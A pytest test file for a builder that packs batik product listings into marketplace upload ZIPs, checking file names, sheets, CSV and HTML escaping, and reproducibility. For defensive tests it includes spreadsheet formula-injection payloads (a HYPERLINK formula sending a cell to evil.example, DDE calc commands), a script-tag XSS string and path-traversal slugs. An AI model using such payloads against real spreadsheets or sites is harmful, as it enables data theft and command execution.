"""The listing pack builder: open the ZIP and check names, texts, sheets, escaping, manifest,
reproducibility, the offline index and the download name. No app, no database."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import unicodedata
import zipfile
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser

import openpyxl
import pytest
from markupsafe import escape
from PIL import Image

from tests.images import encode, rgba_png
from webapp.listings.channels import get_channel
from webapp.listings.copywriter import BrandFacts, ProductFacts, write_listing
from webapp.listings.rules import check_listing
from webapp.packs.builder import (
    ChannelCopy,
    PackChannel,
    PackError,
    PackImage,
    PackInput,
    PackProduct,
    build_pack,
    check_entry,
    content_disposition,
    download_name,
)

DAY = date(2026, 11, 28)
CHANNEL_IDS = ("shopee", "tiktok_shop", "tokopedia", "instagram", "whatsapp", "facebook",
               "etsy")
HOSTILE = ('=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-1+2", "\t=1+1", "＝1+1")
SHOPEE_HEADERS = [
    "Kategori", "Nama Produk*", "Deskripsi Produk*", "Maks. Jumlah Pembelian",
    "Maks. Jumlah Pembelian - Tanggal Mulai", "Maks. Jumlah Pembelian - Jumlah Hari",
    "Maks. Jumlah Pembelian - Tanggal Berakhir", "Min. Jumlah Pembelian", "SKU Induk",
    "Produk Berbahaya", "Kode Integrasi Variasi", "Nama Variasi 1", "Varian untuk Variasi 1",
    "Foto Produk per Varian", "Nama Variasi 2", "Varian untuk Variasi 2", "Harga*", "Stok",
    "Kode Variasi", "Template Panduan Ukuran", "Foto Panduan Ukuran", "GTIN", "Foto Sampul*",
    *(f"Foto Produk {n}" for n in range(1, 9)), "Berat (gram)", "Panjang (cm)", "Lebar (cm)",
    "Tinggi (cm)", "Dikirim Dalam Pre-order",
]
TIKTOK_HEADERS = [
    "Category", "Brand", "Product Name", "Product Description", "Main Product Image",
    *(f"Product Image {n}" for n in range(2, 10)), "Package Weight (g)", "Package Length (cm)",
    "Package Width (cm)", "Package Height (cm)", "Variation", "Variation 2", "Price", "Quantity",
    "Seller SKU",
]
ENTRY_PATTERNS = [re.compile(pattern) for pattern in (
    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|facebook|etsy)/[a-z0-9-]+/\d\d(-utama)?\.(jpg|png)",
    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|facebook|etsy)/[a-z0-9-]+/"
    r"(judul|deskripsi|tagar|poin|caption|katalog)\.txt",
    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|facebook|etsy)/PERIKSA\.txt",
    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|facebook|etsy)/\1\.csv",
    r"shopee/shopee-unggah-massal\.xlsx", r"tiktok_shop/tiktok-shop-batch\.xlsx",
    r"tokopedia/tokopedia-tambah-massal\.xlsx", r"facebook/katalog-meta\.xlsx",
    r"cerita/(id|en)/[a-z_]+\.txt", r"cerita/logo\.png", r"index\.html", r"manifest\.json",
)]

LASEM = ProductFacts(
    name="Kain Latohan Merah", product_type="Kain panjang", technique="batik_tulis",
    materials=("mori_primissima",), motif="latohan", region="lasem", colours=("Merah", "Krem"),
    dimensions="250 x 105 cm", weight_g=350, price=1_250_000, stock=3, sku="BSL-LTH-001",
    made_to_order_days=30, dye="pewarna_alam")
KEMEJA = ProductFacts(
    name="Kemeja Sogan", product_type="Kemeja", technique="batik_cap", materials=("katun",),
    colours=("Coklat",), sizes=("M", "L"), weight_g=250, price=325_000, stock=8, sku="BSL-KMJ-2")
SEKAR = BrandFacts(name="Batik Sekar Lasem", city="Lasem, Rembang", province="Jawa Tengah",
                   story_hook="Kami membatik di rumah tua keluarga di Lasem sejak 1998.")


# --- building the input ----------------------------------------------------------------------

def photos(channel_id: str, seed: int, count: int, loads: list | None = None):
    """Small photo-like renditions; the second one loads lazily (and is counted)."""
    images = []
    for slot in range(1, count + 1):
        data = encode(Image.new("RGB", (48, 48), (seed * 40, slot * 60, 90)), "JPEG")
        if slot == 2:
            def load(data=data, key=(channel_id, seed, slot)):
                if loads is not None:
                    loads.append(key)
                return data
            images.append(PackImage(slot, load, "jpg", 48, 48))
        else:
            images.append(PackImage(slot, data, "jpg", 48, 48))
    return tuple(images)


def realistic_product(facts: ProductFacts, slug: str, seed: int, *, variants=(),
                      loads: list | None = None) -> PackProduct:
    """A product whose copy comes from the copywriter, with open findings for the checklist."""
    copies, images = {}, {}
    for channel_id in CHANNEL_IDS:
        channel = get_channel(channel_id)
        listing = write_listing(facts, SEKAR, channel)
        found = check_listing(channel, listing, product=facts, brand=SEKAR.name)
        findings = [finding.message("id") for field in found.values() for finding in field]
        copies[channel_id] = ChannelCopy.from_listing(listing, findings)
        images[channel_id] = photos(channel_id, seed, 3, loads)
    return PackProduct(
        slug=slug, name=facts.name, sku=facts.sku, price=facts.price, stock=facts.stock,
        weight_g=facts.weight_g, length_cm=250, width_cm=105.5, height_cm=None,
        category="Kain", colours=facts.colours, sizes=facts.sizes, variants=variants,
        made_to_order_days=facts.made_to_order_days, images=images, copy=copies)


def hostile_product(name: str = "<script>alert(1)</script> Kain", slug: str = "kain-nakal",
                    *, sku: str = "+62 812-3456-7890", stock: int | None = -3) -> PackProduct:
    """A product whose owner typed what a spreadsheet or a browser might run."""
    copies = {}
    for channel_id in CHANNEL_IDS:
        copies[channel_id] = ChannelCopy(
            channel_id, "id", title=name, description=f"{name}\r\nBaris dua\r\n",
            hashtags=("#batik",) if channel_id != "etsy" else ("batik",),
            caption=name if channel_id == "instagram" else "",
            catalogue_text=name if channel_id == "whatsapp" else "",
            findings=(f"Judul memuat {name}",))
    return PackProduct(slug=slug, name=name, sku=sku, price=99_000, stock=stock,
                       weight_g=200, category=name, images={}, copy=copies)


def make_pack(products=None, *, language="id", story=None, logo=True, loads=None) -> PackInput:
    """A realistic pack: two products from the copywriter and one hostile one, five channels."""
    if products is None:
        variants = ({"colour": "Coklat", "size": "M", "stock": 5, "price": 325_000,
                     "sku": "KMJ-M"},
                    {"colour": "Coklat", "size": "L", "stock": 0, "sku": "KMJ-L"})
        products = (realistic_product(LASEM, "kain-latohan-merah", 1, loads=loads),
                    realistic_product(KEMEJA, "kemeja-sogan", 2, variants=variants,
                                      loads=loads),
                    hostile_product())
    if story is None:
        story = {"id": {"tagline": "Batik tulis Lasem, dari rumah kami.",
                        "about_long": "Kami mulai membatik tahun 1998.\nSetiap kain butuh "
                                      "sebulan.", "instagram_bio": "Batik tulis Lasem 🌺"},
                 "en": {"tagline": "Hand-drawn batik from Lasem, from our home."}}
    channels = tuple(PackChannel.from_channel(get_channel(c)) for c in CHANNEL_IDS)
    logo_png = rgba_png((16, 16)) if logo else None
    return PackInput(brand_slug="batik-sekar-lasem", brand_name='Batik "Sekar" Lasem',
                     revision_number=4, revision_date=DAY, app_version="0.1.0",
                     language=language, channels=channels, products=products, story=story,
                     logo_png=logo_png, brand_link="https://wa.me/6281234567890")


def build(pack: PackInput, **kwargs) -> tuple[bytes, dict]:
    """Build the pack into memory and return the ZIP bytes and the manifest."""
    out = io.BytesIO()
    manifest = build_pack(pack, out, **kwargs)
    return out.getvalue(), manifest


@pytest.fixture(scope="module")
def built() -> tuple[bytes, dict, PackInput]:
    """The realistic pack, built once for the read-only checks."""
    pack = make_pack()
    data, manifest = build(pack)
    return data, manifest, pack


def open_zip(data: bytes) -> zipfile.ZipFile:
    """Open ZIP bytes."""
    return zipfile.ZipFile(io.BytesIO(data))


def sheet(data: bytes, path: str):
    """Open an XLSX entry of the pack and return its Template sheet."""
    return openpyxl.load_workbook(io.BytesIO(open_zip(data).read(path)))["Template"]


def csv_rows(data: bytes, path: str) -> list[list[str]]:
    """Read a CSV entry of the pack."""
    text = open_zip(data).read(path).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


# --- entry names and ZIP attributes ------------------------------------------------------------

def test_entry_names_are_generated_and_safe(built):
    data, _, pack = built
    archive = open_zip(data)
    names = archive.namelist()
    assert names[-1] == "manifest.json"
    assert names[:-1] == sorted(names[:-1])
    assert len(names) == len(set(names))
    for name in names:
        assert not name.startswith("/") and "\\" not in name and ".." not in name
        assert name.isascii()
        assert any(p.fullmatch(name) for p in ENTRY_PATTERNS), name
    for channel_id in CHANNEL_IDS:
        for product in pack.products:
            if product.images:
                assert f"{channel_id}/{product.slug}/01-utama.jpg" in names
                assert f"{channel_id}/{product.slug}/02.jpg" in names
                assert f"{channel_id}/{product.slug}/03.jpg" in names
            assert f"{channel_id}/{product.slug}/judul.txt" in names or channel_id == "instagram"
        assert f"{channel_id}/PERIKSA.txt" in names
        assert f"{channel_id}/{channel_id}.csv" in names
    assert "shopee/shopee-unggah-massal.xlsx" in names
    assert "tiktok_shop/tiktok-shop-batch.xlsx" in names
    assert "tokopedia/tokopedia-tambah-massal.xlsx" in names
    assert "facebook/katalog-meta.xlsx" in names
    assert not any(n.endswith(".xlsx") for n in names
                   if not n.startswith(("shopee/", "tiktok_shop/", "tokopedia/", "facebook/")))
    assert {"cerita/logo.png", "cerita/id/tagline.txt", "cerita/id/about_long.txt",
            "cerita/id/instagram_bio.txt", "cerita/en/tagline.txt"} <= set(names)


def test_entries_have_fixed_times_modes_and_no_compression(built):
    data, _, _ = built
    for info in open_zip(data).infolist():
        assert info.date_time == (2026, 11, 28, 0, 0, 0)
        assert info.external_attr >> 16 == 0o100644
        assert info.create_system == 3
        assert info.compress_type == zipfile.ZIP_STORED
        assert info.comment == b"" and info.extra == b""


def test_photos_are_the_rendered_bytes_in_slot_order(built):
    data, _, pack = built
    archive = open_zip(data)
    product = pack.products[0]
    for channel_id in CHANNEL_IDS:
        for image in product.images[channel_id]:
            name = "01-utama.jpg" if image.slot == 1 else f"{image.slot:02d}.jpg"
            assert archive.read(f"{channel_id}/{product.slug}/{name}") == image.read()


def test_hostile_product_without_photos_gets_no_photo_files(built):
    data, _, _ = built
    names = open_zip(data).namelist()
    assert not [n for n in names if n.startswith("shopee/kain-nakal/") and n.endswith(".jpg")]
    assert "shopee/kain-nakal/judul.txt" in names


# --- text files --------------------------------------------------------------------------------

def test_text_files_hold_the_copy_and_paste_cleanly(built):
    data, _, pack = built
    archive = open_zip(data)
    for product in pack.products:
        for channel_id in CHANNEL_IDS:
            copy = product.copy[channel_id]
            folder = f"{channel_id}/{product.slug}"
            expected = {"judul.txt": copy.title, "deskripsi.txt": copy.description,
                        "poin.txt": "\n".join(copy.bullets), "caption.txt": copy.caption,
                        "katalog.txt": copy.catalogue_text}
            tags = ", ".join(copy.hashtags) if channel_id == "etsy" else " ".join(copy.hashtags)
            expected["tagar.txt"] = tags
            for name, text in expected.items():
                path = f"{folder}/{name}"
                wanted = text.replace("\r\n", "\n").strip()
                if not wanted:
                    assert path not in archive.namelist()
                    continue
                raw = archive.read(path)
                assert not raw.startswith(b"\xef\xbb\xbf")
                assert b"\r" not in raw
                assert not raw.endswith(b"\n")
                decoded = raw.decode("utf-8")
                assert decoded == unicodedata.normalize("NFC", decoded)
                assert decoded == wanted, path


def test_each_channel_gets_its_own_text_files(built):
    data, _, _ = built
    names = set(open_zip(data).namelist())
    folder = "{}/kain-latohan-merah/{}"
    assert folder.format("instagram", "caption.txt") in names
    assert folder.format("whatsapp", "katalog.txt") in names
    for channel_id in ("shopee", "tiktok_shop", "etsy", "whatsapp"):
        assert folder.format(channel_id, "caption.txt") not in names
    for channel_id in ("shopee", "tiktok_shop", "etsy", "instagram"):
        assert folder.format(channel_id, "katalog.txt") not in names
    etsy_tags = open_zip(data).read(folder.format("etsy", "tagar.txt")).decode()
    assert "#" not in etsy_tags and ", " in etsy_tags
    shopee_tags = open_zip(data).read(folder.format("shopee", "tagar.txt")).decode()
    assert shopee_tags.startswith("#") and ", " not in shopee_tags


def test_story_pieces_and_logo(built):
    data, _, pack = built
    archive = open_zip(data)
    for language, pieces in pack.story.items():
        for piece, text in pieces.items():
            assert archive.read(f"cerita/{language}/{piece}.txt").decode() == text
    assert archive.read("cerita/logo.png") == pack.logo_png


def test_checklist_names_every_product_file_and_open_finding(built):
    data, _, pack = built
    archive = open_zip(data)
    for channel_id in CHANNEL_IDS:
        text = archive.read(f"{channel_id}/PERIKSA.txt").decode()
        assert text.endswith("\n") and "\r" not in text
        assert text.startswith("DAFTAR PERIKSA: ")
        for product in pack.products:
            assert f"{channel_id}/{product.slug}/" in text
            for finding in product.copy[channel_id].findings:
                assert " ".join(finding.split()) in text
        assert f"{channel_id}.csv" in text
    assert "Mass Upload" in archive.read("shopee/PERIKSA.txt").decode()
    assert "Media Center" in archive.read("tiktok_shop/PERIKSA.txt").decode()
    assert "Belum ada foto" in archive.read("shopee/PERIKSA.txt").decode()


def test_checklist_keeps_each_product_on_one_line():
    product = hostile_product("Kain\nBatik\r\nTulis")
    data, _ = build(make_pack(products=(product,), logo=False))
    text = open_zip(data).read("shopee/PERIKSA.txt").decode()
    assert "[ ] Kain Batik Tulis (shopee/kain-nakal/): Belum ada foto" in text
    assert "    - Judul memuat Kain Batik Tulis" in text


def test_checklist_and_index_follow_the_pack_language():
    data, _ = build(make_pack(language="en"))
    archive = open_zip(data)
    assert archive.read("shopee/PERIKSA.txt").decode().startswith("CHECKLIST: Shopee")
    assert '<html lang="en">' in archive.read("index.html").decode()
    assert open_zip(data).namelist() == open_zip(build(make_pack())[0]).namelist()


# --- sheets ------------------------------------------------------------------------------------

def test_shopee_sheet_has_the_template_columns_and_one_row_per_variant(built):
    data, _, pack = built
    rows = list(sheet(data, "shopee/shopee-unggah-massal.xlsx").iter_rows(values_only=True))
    assert list(rows[0]) == SHOPEE_HEADERS
    assert rows[1][1] == "Wajib"  # the note row
    data_rows = [dict(zip(SHOPEE_HEADERS, row, strict=True)) for row in rows[2:]]
    assert len(data_rows) == 4  # kain, two kemeja variants, the hostile product
    kain, size_m, size_l = data_rows[:3]
    lasem = pack.products[0]
    assert kain["Nama Produk*"] == lasem.copy["shopee"].title
    assert kain["Deskripsi Produk*"] == lasem.copy["shopee"].description
    assert kain["Harga*"] == 1_250_000 and kain["Stok"] == 3
    assert kain["SKU Induk"] == "BSL-LTH-001"
    assert kain["Berat (gram)"] == 350
    assert kain["Panjang (cm)"] == 250 and kain["Lebar (cm)"] == 105.5
    assert kain["Tinggi (cm)"] is None
    assert kain["Dikirim Dalam Pre-order"] == 30
    assert kain["Foto Sampul*"] == "kain-latohan-merah/01-utama.jpg"
    assert kain["Foto Produk 1"] == "kain-latohan-merah/02.jpg"
    assert kain["Foto Produk 2"] == "kain-latohan-merah/03.jpg"
    assert kain["Foto Produk 3"] is None
    assert kain["Kode Integrasi Variasi"] is None and kain["Nama Variasi 1"] is None
    assert size_m["Kode Integrasi Variasi"] == size_l["Kode Integrasi Variasi"] == "kemeja-sogan"
    assert (size_m["Nama Variasi 1"], size_m["Varian untuk Variasi 1"]) == ("Warna", "Coklat")
    assert (size_m["Nama Variasi 2"], size_m["Varian untuk Variasi 2"]) == ("Ukuran", "M")
    assert (size_m["Harga*"], size_m["Stok"], size_m["Kode Variasi"]) == (325_000, 5, "KMJ-M")
    # a variant without its own price takes the product's; stock 0 stays 0
    assert (size_l["Harga*"], size_l["Stok"], size_l["Kode Variasi"]) == (325_000, 0, "KMJ-L")
    assert size_l["Nama Produk*"] == size_m["Nama Produk*"]


TOKOPEDIA_HEADERS = [
    "Pesan Error", "Nama Produk*", "Deskripsi Produk", "Kategori Kode*", "Berat* (Gram)",
    "Minimum Pemesanan*", "Nomor Etalase", "Waktu Proses Preorder", "Kondisi*",
    "Foto Produk 1*", *(f"Foto Produk {n}" for n in range(2, 6)),
    *(f"URL Video Produk {n}" for n in range(1, 4)), "SKU Name", "Status*", "Jumlah Stok*",
    "Harga (Rp)*", "Kurir Pengiriman*", "Asuransi Pengiriman*",
]


def test_tokopedia_sheet_has_the_bulk_add_columns_and_one_row_per_product(built):
    """channels.md §3: the Tambah Produk Massal headers; the basic template has no variant
    columns, so a product with variants is one row."""
    data, _, pack = built
    rows = list(sheet(data, "tokopedia/tokopedia-tambah-massal.xlsx").iter_rows(
        values_only=True))
    assert list(rows[0]) == TOKOPEDIA_HEADERS
    data_rows = [dict(zip(TOKOPEDIA_HEADERS, row, strict=True)) for row in rows[2:]]
    assert len(data_rows) == len(pack.products)
    kain = data_rows[0]
    lasem = pack.products[0]
    assert kain["Nama Produk*"] == lasem.copy["tokopedia"].title
    assert kain["Deskripsi Produk"] == lasem.copy["tokopedia"].description
    assert (kain["Berat* (Gram)"], kain["Minimum Pemesanan*"], kain["Kondisi*"]) == (350, 1, "Baru")
    assert (kain["Harga (Rp)*"], kain["Jumlah Stok*"], kain["SKU Name"]) == (
        1_250_000, 3, "BSL-LTH-001")
    assert kain["Foto Produk 1*"] == "kain-latohan-merah/01-utama.jpg"
    assert kain["Foto Produk 2"] == "kain-latohan-merah/02.jpg"
    assert kain["Kategori Kode*"] is None and kain["Status*"] == "Aktif"
    checklist = open_zip(data).read("tokopedia/PERIKSA.txt").decode()
    assert "TAMBAH PRODUK MASSAL: tokopedia-tambah-massal.xlsx" in checklist


META_HEADERS = ["id", "title", "description", "availability", "condition", "price", "link",
                "image_link", "additional_image_link", "brand", "item_group_id", "color", "size"]


def test_facebook_csv_is_a_meta_catalogue_feed(built):
    """channels.md §9: Meta's required feed fields by their official names, one row per variant
    tied by item_group_id, prices as "150000 IDR", the WhatsApp link when there is no site."""
    data, _, pack = built
    rows = csv_rows(data, "facebook/facebook.csv")
    assert rows[0] == META_HEADERS
    feed = [dict(zip(META_HEADERS, row, strict=True)) for row in rows[1:]]
    kain, size_m, size_l = feed[:3]
    lasem = pack.products[0]
    assert (kain["id"], kain["title"]) == ("BSL-LTH-001", lasem.copy["facebook"].title)
    assert kain["description"] == lasem.copy["facebook"].description
    assert (kain["availability"], kain["condition"], kain["price"]) == (
        "in stock", "new", "1250000 IDR")
    assert kain["link"] == "https://wa.me/6281234567890"
    assert kain["brand"] == 'Batik "Sekar" Lasem'
    assert kain["image_link"] == "kain-latohan-merah/01-utama.jpg"
    assert kain["additional_image_link"] == "kain-latohan-merah/02.jpg,kain-latohan-merah/03.jpg"
    assert kain["item_group_id"] == ""
    assert (size_m["id"], size_m["price"], size_m["size"], size_m["color"]) == (
        "KMJ-M", "325000 IDR", "M", "Coklat")
    assert size_l["availability"] == "out of stock"
    assert size_m["item_group_id"] == size_l["item_group_id"] == "kemeja-sogan"
    assert len({row["id"] for row in feed}) == len(feed)
    assert "KATALOG META: facebook.csv" in open_zip(data).read("facebook/PERIKSA.txt").decode()


def test_tiktok_sheet_has_the_batch_template_columns(built):
    data, _, pack = built
    rows = list(sheet(data, "tiktok_shop/tiktok-shop-batch.xlsx").iter_rows(values_only=True))
    assert list(rows[0]) == TIKTOK_HEADERS
    kain = dict(zip(TIKTOK_HEADERS, rows[2], strict=True))
    lasem = pack.products[0]
    assert kain["Product Name"] == lasem.copy["tiktok_shop"].title
    assert kain["Product Description"] == lasem.copy["tiktok_shop"].description
    assert kain["Main Product Image"] == "kain-latohan-merah/01-utama.jpg"
    assert kain["Product Image 2"] == "kain-latohan-merah/02.jpg"
    assert kain["Brand"] is None
    assert (kain["Price"], kain["Quantity"], kain["Seller SKU"]) == (1_250_000, 3, "BSL-LTH-001")
    assert kain["Package Weight (g)"] == 350
    notes = openpyxl.load_workbook(io.BytesIO(open_zip(data).read(
        "tiktok_shop/tiktok-shop-batch.xlsx")))["Catatan"]
    assert "belum terverifikasi" in " ".join(str(c.value) for c in notes["A"])


@pytest.mark.parametrize(("path", "kind"), [
    ("shopee/shopee.csv", "xlsx"), ("tiktok_shop/tiktok_shop.csv", "xlsx"),
    ("tokopedia/tokopedia.csv", "xlsx"), ("facebook/facebook.csv", "xlsx"),
    ("instagram/instagram.csv", "generic"), ("etsy/etsy.csv", "generic"),
    ("whatsapp/whatsapp.csv", "generic")])
def test_csv_is_utf8_with_bom_quoted_and_holds_the_sheet_data(built, path, kind):
    data, _, _ = built
    raw = open_zip(data).read(path)
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw[3:].decode("utf-8")
    header = text.split("\r\n", 1)[0]
    assert re.fullmatch(r'"[^"]*"(,"[^"]*")*', header)
    rows = csv_rows(data, path)
    assert all(len(row) == len(rows[0]) for row in rows)
    if kind == "xlsx":
        xlsx = {"shopee/shopee.csv": "shopee/shopee-unggah-massal.xlsx",
                "tiktok_shop/tiktok_shop.csv": "tiktok_shop/tiktok-shop-batch.xlsx",
                "tokopedia/tokopedia.csv": "tokopedia/tokopedia-tambah-massal.xlsx",
                "facebook/facebook.csv": "facebook/katalog-meta.xlsx"}[path]
        cells = [["" if v is None else v for v in row]
                 for row in sheet(data, xlsx).iter_rows(values_only=True)]
        assert rows[0] == cells[0]
        assert len(rows) - 1 == len(cells) - 2  # the sheet has a note row
        for csv_row, cell_row in zip(rows[1:], cells[2:], strict=True):
            for field, cell in zip(csv_row, cell_row, strict=True):
                if isinstance(cell, str) and field.startswith("'") and not cell.startswith("'"):
                    field = field[1:]
                assert field == (str(cell) if not isinstance(cell, float) else f"{cell:g}")
    else:
        assert rows[1][0] == "kain-latohan-merah"
        assert "kain-latohan-merah/01-utama.jpg" in rows[1]


def test_generic_csv_summarises_variants():
    data, _ = build(make_pack())
    rows = csv_rows(data, "etsy/etsy.csv")
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    kemeja = next(row for row in table if row["Kode produk"] == "kemeja-sogan")
    assert kemeja["Varian"].split("\n") == [
        "Coklat / M: stok 5, harga 325000, SKU KMJ-M",
        "Coklat / L: stok 0, harga 325000, SKU KMJ-L"]
    assert kemeja["Harga (Rp)"] == "325000"


# --- formula injection (security.md checklist 30) ----------------------------------------------

@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_can_run_as_a_formula(name):
    pack = make_pack(products=(hostile_product(name),), logo=False)
    data, _ = build(pack)
    archive = open_zip(data)
    for path, column in (("shopee/shopee-unggah-massal.xlsx", "Nama Produk*"),
                         ("tiktok_shop/tiktok-shop-batch.xlsx", "Product Name")):
        book = openpyxl.load_workbook(io.BytesIO(archive.read(path)))
        cells = {c.value: c for c in book["Template"][1]}
        cell = book["Template"].cell(row=3, column=cells[column].column)
        category = book["Template"].cell(row=3, column=1)
        for target in (cell, category):
            expected = name.strip()
            assert target.value == expected  # the text reaches the marketplace unchanged
            assert target.data_type == "s" and target.quotePrefix
        inner = zipfile.ZipFile(io.BytesIO(archive.read(path)))
        assert not re.search(rb"<f[ >]", inner.read("xl/worksheets/sheet1.xml"))
    for path, column in (("shopee/shopee.csv", "Nama Produk*"),
                         ("tiktok_shop/tiktok_shop.csv", "Product Name"),
                         ("tokopedia/tokopedia.csv", "Nama Produk*"),
                         ("etsy/etsy.csv", "Nama produk"), ("etsy/etsy.csv", "Judul"),
                         ("instagram/instagram.csv", "Caption"),
                         ("whatsapp/whatsapp.csv", "Teks katalog WhatsApp")):
        rows = csv_rows(data, path)
        field = rows[1][rows[0].index(column)]
        assert field == "'" + name.strip(), (path, column)


def test_numbers_and_phone_numbers_are_not_mangled():
    products = (hostile_product("Kain Batik", sku="+62 812-3456-7890", stock=-3),
                hostile_product("Kain Tenun", slug="kain-tenun", sku="0812-3456-7890", stock=0),
                hostile_product("Kain Sutra", slug="kain-sutra", sku="-42", stock=2))
    data, _ = build(make_pack(products=products, logo=False))
    template = sheet(data, "shopee/shopee-unggah-massal.xlsx")
    header = [c.value for c in template[1]]
    sku, stock = header.index("SKU Induk") + 1, header.index("Stok") + 1
    negative = template.cell(row=3, column=stock)
    assert negative.value == -3 and negative.data_type == "n" and not negative.quotePrefix
    phone = template.cell(row=3, column=sku)
    assert phone.value == "+62 812-3456-7890" and phone.data_type == "s"
    local = template.cell(row=4, column=sku)
    assert local.value == "0812-3456-7890" and not local.quotePrefix
    assert template.cell(row=4, column=stock).value == 0
    assert template.cell(row=5, column=sku).value == "-42"
    rows = csv_rows(data, "shopee/shopee.csv")
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [row["Stok"] for row in table] == ["-3", "0", "2"]
    # a phone number with spaces would be arithmetic in a spreadsheet: escaped; plain numbers
    # and local numbers are left as they are
    assert [row["SKU Induk"] for row in table] == ["'+62 812-3456-7890", "0812-3456-7890", "-42"]


def test_cells_keep_non_latin_text_and_drop_control_characters():
    product = hostile_product("Батик 批发 🌺\x00\x0b Kain", sku="SKU\x07-1")
    data, _ = build(make_pack(products=(product,), logo=False))
    template = sheet(data, "shopee/shopee-unggah-massal.xlsx")
    assert template.cell(row=3, column=2).value == "Батик 批发 🌺 Kain"
    rows = csv_rows(data, "shopee/shopee.csv")
    assert rows[1][1] == "Батик 批发 🌺 Kain" and rows[1][8] == "SKU-1"


# --- manifest and reproducibility --------------------------------------------------------------

def test_manifest_lists_every_file_with_size_and_hash(built):
    data, manifest, _ = built
    archive = open_zip(data)
    stored = json.loads(archive.read("manifest.json"))
    assert stored == manifest
    assert stored["format"] == 1
    assert (stored["brand"], stored["brand_revision"]) == ("batik-sekar-lasem", 4)
    assert (stored["app_version"], stored["language"]) == ("0.1.0", "id")
    assert stored["revision_date"] == "2026-11-28"
    assert stored["channels"] == list(CHANNEL_IDS)
    paths = [f["path"] for f in stored["files"]]
    assert paths == [n for n in archive.namelist() if n != "manifest.json"]
    for entry in stored["files"]:
        content = archive.read(entry["path"])
        assert entry["size"] == len(content)
        assert entry["sha256"] == hashlib.sha256(content).hexdigest()
    text = archive.read("manifest.json").decode()
    assert set(re.findall(r"\d{4}-\d\d-\d\d", text)) == {"2026-11-28"}
    assert not re.search(r"\d\d:\d\d", text)
    assert stored["photos"] == sum(1 for p in paths if p.endswith(".jpg"))


def test_same_input_gives_byte_identical_zip(tmp_path):
    first, _ = build(make_pack())
    second, _ = build(make_pack())
    assert first == second
    with (tmp_path / "pack.zip").open("wb") as out:
        build_pack(make_pack(), out)
    assert (tmp_path / "pack.zip").read_bytes() == first


def test_sheets_carry_the_revision_date_not_the_build_time(built):
    data, _, _ = built
    for path in ("shopee/shopee-unggah-massal.xlsx", "tiktok_shop/tiktok-shop-batch.xlsx",
                 "tokopedia/tokopedia-tambah-massal.xlsx"):
        inner = zipfile.ZipFile(io.BytesIO(open_zip(data).read(path)))
        assert {info.date_time for info in inner.infolist()} == {(2026, 11, 28, 0, 0, 0)}
        core = inner.read("docProps/core.xml").decode()
        assert re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core) == ["2026-11-28T00:00:00Z"] * 2
        assert "Studio Cerita" in core


def test_a_different_revision_gives_a_different_pack():
    first, _ = build(make_pack())
    second, manifest = build(replace(make_pack(), revision_number=5))
    assert first != second and manifest["brand_revision"] == 5


# --- index.html --------------------------------------------------------------------------------

class Links(HTMLParser):
    """Collects src and href attributes and script tags of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.sources: list[str] = []
        self.links: list[str] = []
        self.scripts = 0

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag == "script":
            self.scripts += 1
        if tag == "img":
            self.sources.append(values["src"])
        if tag == "a":
            self.links.append(values["href"])


def test_index_is_offline_escaped_and_shows_every_photo(built):
    data, _, pack = built
    archive = open_zip(data)
    page = archive.read("index.html").decode("utf-8")
    parser = Links()
    parser.feed(page)
    assert parser.scripts == 0
    assert "<script>alert(1)" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Kain" in page
    assert "Batik &#34;Sekar&#34; Lasem" in page or "Batik &quot;Sekar&quot; Lasem" in page
    photo_names = {n for n in archive.namelist() if n.endswith((".jpg", ".png"))}
    assert photo_names <= set(parser.sources)
    names = set(archive.namelist())
    for target in parser.sources + parser.links:
        assert target.startswith("#") or target in names, target
    assert not re.search(r"""(?:src|href)=["']?(?:https?:)?//""", page)
    assert "@import" not in page and "url(" not in page
    for product in pack.products:
        assert str(escape(product.copy["shopee"].title)) in page


def test_index_shows_story_and_findings(built):
    data, _, _ = built
    page = open_zip(data).read("index.html").decode()
    assert "Batik tulis Lasem, dari rumah kami." in page
    assert 'href="cerita/en/tagline.txt"' in page
    assert "Temuan yang masih terbuka" in page


# --- progress and lazy photos ------------------------------------------------------------------

def test_progress_counts_photos_and_photos_load_once_each():
    loads: list = []
    calls: list = []
    pack = make_pack(loads=loads)
    assert loads == []  # nothing is loaded before the build
    _, manifest = build(pack, progress=lambda done, total: calls.append((done, total)))
    total = manifest["photos"]
    assert total == 2 * len(CHANNEL_IDS) * 3
    assert calls == [(done, total) for done in range(total + 1)]
    assert len(loads) == len(set(loads)) == 2 * len(CHANNEL_IDS)


def test_loader_errors_propagate():
    def broken() -> bytes:
        raise OSError("disk gone")
    product = hostile_product()
    product = replace(product, images={"shopee": (PackImage(1, broken, "jpg", 1, 1),)})
    with pytest.raises(OSError, match="disk gone"):
        build_pack(make_pack(products=(product,)), io.BytesIO())


# --- refused input -----------------------------------------------------------------------------

def broken_packs():
    """Packs that must be refused, with why."""
    good = make_pack(products=(hostile_product(),), logo=False)
    product = good.products[0]
    shopee = get_channel("shopee")

    def with_product(**changes):
        return replace(good, products=(replace(product, **changes),))

    def with_images(*images):
        return with_product(images={"shopee": images})

    jpeg = encode(Image.new("RGB", (8, 8), "white"), "JPEG")
    yield "slug with dots", with_product(slug="../etc")
    yield "slug with slash", with_product(slug="a/b")
    yield "slug with capitals", with_product(slug="Kain-Batik")
    yield "slug with letters outside ascii", with_product(slug="батик")
    yield "empty slug", with_product(slug="")
    yield "brand slug", replace(good, brand_slug="../../x")
    yield "two products, one slug", replace(good, products=(product, product))
    yield "channel id", replace(good, channels=(PackChannel("../shopee", "x"),))
    yield "channel id with capitals", replace(good, channels=(PackChannel("Shopee", "x"),))
    yield "reserved channel id", replace(good, channels=(PackChannel("cerita", "x"),))
